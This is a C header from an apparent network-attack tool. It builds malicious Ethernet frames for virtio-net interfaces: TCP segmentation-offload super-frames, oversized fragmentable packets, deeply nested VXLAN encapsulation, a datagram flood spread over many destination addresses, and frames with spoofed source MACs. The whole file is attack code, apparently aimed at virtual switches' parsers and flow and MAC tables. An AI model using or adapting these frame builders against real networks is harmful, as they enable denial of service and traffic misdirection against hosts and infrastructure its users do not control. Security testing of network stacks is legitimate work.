/* Frames that attack: each function writes one into `frame`, and an offload request into `offload` where it has one. */
#ifndef FRAMES_H
#define FRAMES_H

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/virtio_net.h>
#include <stdint.h>

#include "attack.h"

enum { ETHERNET = 14, IP = 20, UDP = 8, VXLAN = 8, LAYER = ETHERNET + IP + UDP + VXLAN, LONGEST = 65521 + ETHERNET };

static struct virtio_net_hdr offload;
static uint8_t frame[LONGEST];
static size_t length;

static void mac(uint8_t *to, const char *text) {
    unsigned byte[6];
    if (sscanf(text, "%x:%x:%x:%x:%x:%x", byte, byte + 1, byte + 2, byte + 3, byte + 4, byte + 5) != 6) {
        fprintf(stderr, "%s is no Ethernet address\n", text);
        exit(2);
    }
    for (int i = 0; i < 6; i++) to[i] = (uint8_t)byte[i];
}

static uint32_t ip(const char *text) {
    struct in_addr address;
    if (inet_pton(AF_INET, text, &address) != 1) {
        fprintf(stderr, "%s is no IPv4 address\n", text);
        exit(2);
    }
    return ntohl(address.s_addr);
}

static void put16(uint8_t *at, unsigned value) {
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value) {
    put16(at, value >> 16);
    put16(at + 2, value & 0xFFFF);
}

/* Internet checksum, folded but not inverted. */
static unsigned sum(const uint8_t *bytes, size_t count, uint32_t start) {
    for (size_t i = 0; i + 1 < count; i += 2) start += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
    while (start >> 16) start = (start & 0xFFFF) + (start >> 16);
    return start;
}

static void ethernet(uint8_t *at, const uint8_t *to, const uint8_t *from, unsigned type) {
    memcpy(at, to, 6);
    memcpy(at + 6, from, 6);
    put16(at + 12, type);
}

static void ipv4(uint8_t *at, unsigned total, uint8_t protocol, uint32_t from, uint32_t to) {
    memset(at, 0, IP);
    at[0] = 0x45;
    put16(at + 2, total);
    at[8] = 64;
    at[9] = protocol;
    put32(at + 12, from);
    put32(at + 16, to);
    put16(at + 10, ~sum(at, IP, 0) & 0xFFFF);
}

static void udp(uint8_t *at, unsigned total, unsigned from, unsigned to) {
    put16(at, from);
    put16(at + 2, to);
    put16(at + 4, total);
    put16(at + 6, 0);
}

static void super_frame(const uint8_t *own, char **words) {
    uint8_t to[6], *tcp = frame + ETHERNET + IP;
    unsigned bytes = (unsigned)atoi(words[3]);
    uint32_t source = ip(words[1]), destination = ip(words[2]);
    mac(to, words[0]);
    length = ETHERNET + bytes;
    ethernet(frame, to, own, ETH_P_IP);
    ipv4(frame + ETHERNET, bytes, IPPROTO_TCP, source, destination);
    put16(tcp, 4000);
    put16(tcp + 2, 4000);
    tcp[12] = 5 << 4;
    tcp[13] = 0x10; /* ACK */
    /* The sum of the pseudo header, as a sender with offload leaves it. */
    put16(tcp + 16, sum(frame + ETHERNET + 12, 8, IPPROTO_TCP + bytes - IP));
    offload = (struct virtio_net_hdr){
        .flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .gso_type = VIRTIO_NET_HDR_GSO_TCPV4, .gso_size = 1448,
        .hdr_len = ETHERNET + IP + 20, .csum_start = ETHERNET + IP, .csum_offset = 16};
}

/* An IP packet that must be cut on its way, and says that it may. */
static void long_packet(const uint8_t *own, char **words) {
    uint8_t to[6];
    unsigned bytes = (unsigned)atoi(words[3]);
    uint32_t source = ip(words[1]), destination = ip(words[2]);
    mac(to, words[0]);
    length = ETHERNET + bytes;
    ethernet(frame, to, own, ETH_P_IP);
    ipv4(frame + ETHERNET, bytes, IPPROTO_UDP, source, destination);
    udp(frame + ETHERNET + IP, bytes - IP, 4000, 4000);
}

static void nested(const uint8_t *own, char **words) {
    uint8_t to[6], tunnel[6];
    uint32_t source = ip(words[1]), destination = ip(words[2]), vni = (uint32_t)atoi(words[3]);
    int layers = atoi(words[5]);
    mac(to, words[0]);
    mac(tunnel, words[4]);
    length = (size_t)layers * LAYER + ETHERNET + IP + UDP;
    if (length > LONGEST) die("%d layers don't fit", layers);
    for (int layer = 0; layer < layers; layer++) {
        uint8_t *at = frame + layer * LAYER;
        unsigned left = (unsigned)(length - (size_t)layer * LAYER) - ETHERNET;
        ethernet(at, layer ? tunnel : to, own, ETH_P_IP);
        ipv4(at + ETHERNET, left, IPPROTO_UDP, source, destination);
        udp(at + ETHERNET + IP, left - IP, 49152, 4789);
        put32(at + ETHERNET + IP + UDP, 0x08000000);
        put32(at + ETHERNET + IP + UDP + 4, vni << 8);
    }
    uint8_t *inner = frame + layers * LAYER;
    ethernet(inner, tunnel, own, ETH_P_IP);
    ipv4(inner + ETHERNET, IP + UDP, IPPROTO_UDP, source, destination);
    udp(inner + ETHERNET + IP, UDP, 4000, 4000);
}

/* The frame of that number in a flood of datagrams. Words are parsed once. */
static void stranger(const uint8_t *own, char **words, int others, long number) {
    static uint32_t first, count, *other;
    static uint8_t to[6];
    if (!other) {
        other = calloc((size_t)others, sizeof *other);
        if (!other) die("calloc");
        for (int i = 0; i < others; i++) other[i] = ip(words[4 + i]);
        first = ip(words[2]);
        count = (uint32_t)atol(words[3]);
        mac(to, words[0]);
    }
    uint32_t destination = first + (uint32_t)(number / 16) % count;
    /* First what others may send at once is used up. */
    if (number % 16 || number < 4096) destination = other[number % others];
    length = 60;
    ethernet(frame, to, own, ETH_P_IP);
    ipv4(frame + ETHERNET, IP + UDP, IPPROTO_UDP, ip(words[1]), destination);
    udp(frame + ETHERNET + IP, UDP, 4000, 4000);
}

/* A frame of an unassigned ethertype from a station of choice, for `own`, which is behind the same port: it goes nowhere. */
static void station(const uint8_t *own, const uint8_t *from) {
    length = 60;
    ethernet(frame, own, from, 0x88B5);
}

#endif
